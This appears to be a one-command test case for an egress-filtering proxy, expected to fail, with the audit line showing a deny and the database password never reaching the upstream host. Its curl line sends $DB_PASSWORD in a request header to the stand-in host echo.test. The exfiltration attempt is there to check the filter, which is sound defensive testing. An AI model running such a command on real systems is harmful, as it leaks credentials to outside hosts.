# S4: held secret in a request header
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# upstream-must-not-see: DB_PASSWORD
curl -sS -m 10 -f -H "X-Data: $DB_PASSWORD" http://echo.test/allowed/h
